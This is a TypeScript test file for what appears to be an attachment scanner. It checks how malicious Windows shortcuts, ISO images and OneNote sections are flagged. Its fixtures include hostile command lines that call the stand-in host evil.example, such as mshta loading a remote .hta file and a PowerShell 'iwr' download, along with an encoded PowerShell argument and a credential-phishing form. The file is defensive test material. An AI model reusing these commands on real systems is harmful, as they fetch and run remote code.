import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { attach, codesOf } from "../../../testing/attach.ts";
import { buildIso } from "../../../testing/build-iso.ts";
import { buildOneNote } from "../../../testing/build-onenote.ts";
import { buildShellLink, type ShellLinkDraft } from "../../../testing/build-shell-link.ts";
import { damaged } from "../../../testing/damage.ts";

const system = String.raw`C:\Windows\System32`;
const address = "https://evil.example/a.hta";

test.each<[string, ShellLinkDraft, readonly string[], readonly string[]]>([
  ["a document", { path: String.raw`C:\Users\ola\Notes.docx` }, ["shortcut"], []],
  ["a program", { path: String.raw`C:\Program Files\Contoso\commander.exe`, arguments: "/open" }, ["shortcut"], []],
  [
    "a shell with a command",
    { path: String.raw`${system}\cmd.exe`, arguments: "/c start run.js" },
    ["script", "shortcut"],
    [],
  ],
  ["a shell by an item", { item: "mshta.exe", arguments: address }, ["script", "shortcut"], [address]],
  [
    "a shell by a variable",
    { variable: String.raw`%windir%\System32\WindowsPowerShell\v1.0\powershell.exe`, arguments: `-c iwr ${address}` },
    ["script", "shortcut"],
    [address],
  ],
  [
    "a file on a share",
    { share: String.raw`\\evil.example\docs` },
    ["shortcut"],
    [`${String.raw`\\evil.example\docs`}\\`],
  ],
  [
    "a picture on a share",
    { path: "a.pdf", icon: String.raw`\\evil.example\i.ico` },
    ["shortcut"],
    [String.raw`\\evil.example\i.ico`],
  ],
])("a shortcut to %s", (_, draft, codes, links) => {
  const attachment = attach("a.lnk", buildShellLink(draft));
  expect(codesOf(attachment)).toEqual(codes);
  expect(attachment.links.map(({ url }) => url)).toEqual(links);
});

test("a shortcut has its command line and trailing data", () => {
  const page = '<html><form action="https://evil.example"><input type="password"></form></html>';
  const link = buildShellLink({ path: String.raw`${system}\cmd.exe`, arguments: "/c more +1 a.lnk", rest: page });
  const attachment = attach("a.lnk", link);
  expect(attachment.findings).toContainEqual({
    code: "script",
    evidence: String.raw`${system}\cmd.exe /c more +1 a.lnk`,
  });
  expect(codesOf(attachment)).toContain("embedded_object");
  expect(attachment.parts).toMatchObject([{ type: { name: "html" }, findings: [{ code: "credential_form" }] }]);
});

test("a shortcut in an image is read", () => {
  const content = buildShellLink({ item: "powershell.exe", arguments: "-enc AAAA" });
  const [part] = attach("a.iso", buildIso([{ short: "A.LNK", long: "Invoice.pdf.lnk", content }])).parts;
  expect(part === undefined ? [] : codesOf(part)).toEqual(["double_extension", "script", "shortcut"]);
});

describe("a OneNote section", () => {
  test("lists files with their names", () => {
    const section = buildOneNote([
      { name: "Invoice.pdf.hta", content: "<script>run()</script>" },
      { name: "logo.png", content: Buffer.from("89504e470d0a1a0a", "hex") },
    ]);
    const { findings, parts } = attach("a.one", section);
    expect(findings.map(({ code, evidence }) => [code, evidence])).toEqual([
      ["container", "a.one"],
      ["embedded_object", "Invoice.pdf.hta, logo.png"],
    ]);
    expect(parts.map((part) => [part.name, part.type.name, codesOf(part)])).toEqual([
      ["Invoice.pdf.hta", "html", ["double_extension", "script", "type_mismatch"]],
      ["logo.png", "png", []],
    ]);
  });

  test("has name findings even if names can't be matched to files", () => {
    const section = buildOneNote([
      { name: "run.vbs", content: "a" },
      { name: null, content: "MZ" },
    ]);
    const attachment = attach("a.one", section);
    expect(codesOf(attachment)).toEqual(["container", "embedded_object", "script"]);
    expect(attachment.parts.map(({ name, type }) => [name, type.name])).toEqual([
      ["", "text"],
      ["", "exe"],
    ]);
  });

  test("without files ignores its page text", () => {
    expect(codesOf(attach("a.one", buildOneNote([])))).toEqual(["container"]);
  });
});

test("damaged shortcuts and sections are read as far as possible without hanging", () => {
  const draft = { item: "cmd.exe", path: String.raw`C:\a.exe`, share: String.raw`\\a\b`, arguments: "/c a", icon: "b" };
  const link = buildShellLink({ ...draft, variable: "%a%", rest: "x".repeat(100) });
  const section = buildOneNote([
    { name: "run.vbs", content: "a" },
    { name: "a.exe", content: "MZ" },
  ]);
  fc.assert(
    fc.property(damaged([link, section], 16), (file) => {
      expect(attach("a.bin", file).type.name).toMatch(/^(?:lnk|onenote)$/);
    }),
    { numRuns: 400 },
  );
});
